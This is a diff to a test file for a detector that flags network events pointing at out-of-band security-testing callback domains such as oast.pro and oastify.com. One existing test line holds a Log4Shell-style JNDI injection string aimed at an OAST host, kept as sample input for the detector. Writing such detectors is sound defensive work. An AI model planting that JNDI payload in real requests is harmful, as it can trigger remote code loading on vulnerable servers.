@@ -49,6 +49,18 @@ describe('OastDomainDetector', () => {
     expect(detector.inspect(dns(name))).toBeUndefined();
   });
 
+  it.each(['oast.pro', 'www.oast.fun', 'oastify.com', 'bxss.me', 'https://canarytokens.org/generate'])(
+    'ignores the service site itself (%s): a callback carries an id label',
+    (name) => {
+      const event = name.startsWith('https://') ? http(name) : dns(name);
+      expect(detector.inspect(event)).toBeUndefined();
+    },
+  );
+
+  it.each(['abc.m.pipedream.net', 'x.webhook.site'])('leaves webhook platforms with everyday uses alone (%s)', (name) => {
+    expect(detector.inspect(dns(name))).toBeUndefined();
+  });
+
   it('ignores HTTP URLs that only mention an OAST domain outside the host', () => {
     expect(detector.inspect(http('https://example.com/?q=${jndi:ldap://x.oast.pro/a}'))).toBeUndefined();
     expect(detector.inspect(http('not a url at all'))).toBeUndefined();
